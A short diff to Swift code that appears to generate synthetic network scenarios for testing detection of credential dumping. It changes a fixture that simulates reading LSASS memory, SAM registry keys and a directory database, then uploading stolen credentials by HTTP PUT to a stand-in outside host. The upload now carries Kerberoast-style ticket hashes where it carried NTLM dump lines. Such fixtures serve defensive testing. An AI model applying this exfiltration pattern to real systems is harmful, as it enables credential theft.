@@ -29,13 +29,14 @@ extension Scenario {
         read("Temp\\bao-cao.tmp", Payload.minidump(modules: ["ntdll.dll", "lsasrv.dll"]))
         read("Temp\\sao-luu.bin", Payload.registry(keys: ["Domains", "Account", "000001F4", "Builtin"]))
         read("Temp\\danh-ba.bin", Payload.directoryDatabase)
-        let empty = "aad3b435b51404ee" + "aad3b435b51404ee"
-        let lines = ["Administrator:500", "krbtgt:502", "canbo:1104"].map { "\($0):\(empty):\(hash):::" }
+        let tickets = ["co-so-du-lieu", "in-an"].map { service in
+            "$krb5tgs$23$*\(service)$DIENTAP.EXAMPLE$http/\(service)*$\(hash)$\(hash)\(hash)\(hash)"
+        }
         story.web(
             client, "203.0.113.110",
             asks: Text.request(
                 "PUT", "/thu-muc/ghi-chu.txt", host: "luutru.example",
-                body: lines.joined(separator: "\r\n") + "\r\n"))
+                body: tickets.joined(separator: "\r\n") + "\r\n"))
         return Scenario("credential/dumps", story.frames)
     }
 }
